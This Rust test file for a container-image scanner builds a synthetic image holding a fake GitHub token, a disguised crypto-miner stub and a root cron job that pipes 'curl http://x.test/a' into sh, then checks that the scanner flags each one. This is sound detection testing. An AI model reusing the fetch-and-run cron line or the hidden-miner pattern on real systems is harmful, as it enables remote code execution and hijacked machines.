//! What is in files: secrets in programs and repositories, malware, licences, what starts by
//! itself; one scan of one image.

use std::collections::BTreeMap;
use std::io::Write as _;
use std::path::Path;

use palisade_image::{NewImage, OpenOptions, Platform, write_layout};
use palisade_model::finding::{FileDanger, LicenceVerdict, ScanReport};
use palisade_model::{Finding, Severity, Target};
use palisade_scan::licences::LicencePolicy;
use palisade_scan::malware::Detection;
use palisade_scan::{Look, ScanOptions, report, scan_target};

use crate::image::{NOW, OS_RELEASE, file, layer};

/// A token with the right checksum: the worked example of the format's description.
fn token() -> String {
    ["ghp_", "zQWBuTSOoRi4A9spHcVY5ncnsDkxkJ", "0mLq17"].concat()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

const STATUS: &[u8] = b"\
Package: masscan
Status: install ok installed
Architecture: amd64
Version: 1
";

fn write_image(folder: &Path) -> Target {
    let token = token();
    let program = [&b"\x7fELF\x02\0\0"[..], token.as_bytes(), b"\0"].concat();
    let object = deflate(format!("blob {}\0{token}", token.len()).as_bytes());
    let object_path = format!("srv/app/.git/objects/0a/{}", "b".repeat(38));
    let miner = ["\x7fELF\x02\0\0donate.v2.", "xm", "rig.com\0"].concat();
    let tool = ["\x7fELF\x02\0\0https://github.com/robertdavidgraham/", "masscan\0"].concat();
    let job = b"* * * * * root curl -s http://x.test/a | sh\n";
    let base = layer(
        folder,
        "base.tar",
        &[
            file("etc/os-release", 0o644, OS_RELEASE),
            file("var/lib/dpkg/status", 0o644, STATUS),
            file("var/lib/dpkg/info/masscan.list", 0o644, b"/usr/bin/masscan\n"),
            file("usr/share/doc/masscan/copyright", 0o644, b"Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\nLicense: AGPL-3+\n"),
            file("usr/bin/masscan", 0o755, tool.as_bytes()),
            file("usr/bin/shipped", 0o755, &program),
            file("opt/app", 0o755, &program),
            file(&object_path, 0o444, &object),
            file("srv/twice.env", 0o644, format!("A={token}\nB={token}\n").as_bytes()),
            file("var/tmp/.kswapd", 0o755, miner.as_bytes()),
            file("etc/cron.d/update", 0o644, job),
        ],
    );
    let dest = folder.join("layout");
    let image = NewImage {
        tag: Some("1".into()),
        platform: Platform { os: "linux".into(), architecture: "amd64".into(), variant: None },
        created: NOW,
        config: serde_json::json!({ "Env": ["PATH=/usr/bin"], "User": "1" }),
        history: vec![],
        layers: vec![base],
        annotations: BTreeMap::new(),
    };
    write_layout(&dest, &image).unwrap();
    format!("oci:{}:1", dest.display()).parse().unwrap()
}

fn scan(target: &Target) -> ScanReport {
    let detection = Detection::built_in();
    let licences = LicencePolicy { deny: vec!["AGPL-*".into()], ..LicencePolicy::default() };
    let look = Look { malware: Some(&detection), licences: Some(&licences), ..Look::default() };
    let open = OpenOptions { platform: "linux/amd64".parse().ok(), ..OpenOptions::default() };
    let options = ScanOptions {
        now: NOW,
        database: None,
        ignores: &[],
        checks: &palisade_policy::Checks::default(),
        secrets: true,
        look,
        minimality: None,
    };
    scan_target(target, &open, &options).unwrap()
}

#[test]
fn one_scan_looks_into_everything() {
    let folder = tempfile::tempdir().unwrap();
    let report = scan(&write_image(folder.path()));
    let mut secrets = Vec::new();
    let mut malware = Vec::new();
    let mut files = Vec::new();
    let mut licences = Vec::new();
    for finding in &report.findings {
        match finding {
            Finding::Secret(s) => secrets.push((s.path.clone(), s.n_more, s.fingerprint.clone())),
            Finding::Malware(m) => {
                malware.push((m.path.as_str(), m.rule.as_str(), m.severity, m.package.as_deref()));
            }
            Finding::File(f) => files.push((f.danger, f.path.as_str())),
            Finding::Licence(l) => {
                licences.push((l.package.as_str(), l.verdict, l.licence.as_str()));
            }
            _ => {}
        }
    }
    secrets.sort();
    // The program of the system's folder is what a distribution ships, and is not searched.
    let places: Vec<(&str, u64)> = secrets.iter().map(|(path, n, _)| (path.as_str(), *n)).collect();
    let object_path = format!("/srv/app/.git/objects/0a/{}", "b".repeat(38));
    assert_eq!(places, [("/opt/app", 0), (object_path.as_str(), 0), ("/srv/twice.env", 1)]);
    assert!(secrets.iter().all(|(.., fingerprint)| *fingerprint == secrets[0].2));
    malware.sort();
    #[cfg(feature = "yara")]
    assert_eq!(
        malware,
        [
            ("/usr/bin/masscan", "tool_scanner", Severity::Low, Some("masscan")),
            ("/var/tmp/.kswapd", "miner_xmrig", Severity::Critical, None),
        ]
    );
    files.sort();
    assert_eq!(
        files,
        [
            (FileDanger::HiddenProgram, "/var/tmp/.kswapd"),
            (FileDanger::Persistence, "/etc/cron.d/update"),
        ]
    );
    assert_eq!(licences, [("masscan", LicenceVerdict::Denied, "AGPL-3.0-or-later")]);
    assert_eq!((report.coverage.n_licences_judged, report.coverage.n_licences_unknown), (1, 0));
    let table = report::table::render(&report, report::table::TableOptions::default());
    let json = report::json::render(&report).unwrap();
    let sarif = report::sarif::render(&report, "1").unwrap();
    for text in [&table, &json, &sarif] {
        assert!(!text.contains(&token()[4..]), "a secret's value is in a report");
        assert!(text.contains("twice.env") && text.contains("AGPL-3.0-or-later"), "{text}");
    }
}

#[test]
fn a_secret_can_be_ignored_by_its_fingerprint() {
    let folder = tempfile::tempdir().unwrap();
    let target = write_image(folder.path());
    let report = scan(&target);
    let fingerprint = report.findings.iter().find_map(|finding| match finding {
        Finding::Secret(s) => Some(s.fingerprint.clone()),
        _ => None,
    });
    let text = format!(
        "ignore:\n- {{id: \"{}\", reason: revoked, expires: 2099-01-01}}\n",
        fingerprint.unwrap()
    );
    let ignores = palisade_scan::ignore::parse(&text, "ignore.yaml").unwrap();
    let open = OpenOptions { platform: "linux/amd64".parse().ok(), ..OpenOptions::default() };
    let options = ScanOptions {
        now: NOW,
        database: None,
        ignores: &ignores,
        checks: &palisade_policy::Checks::default(),
        minimality: None,
        secrets: true,
        look: Look::default(),
    };
    let report = scan_target(&target, &open, &options).unwrap();
    // All places of the value are covered by the one entry.
    assert_eq!(report.n_ignored, 3);
    assert!(!report.findings.iter().any(|finding| matches!(finding, Finding::Secret(_))));
}
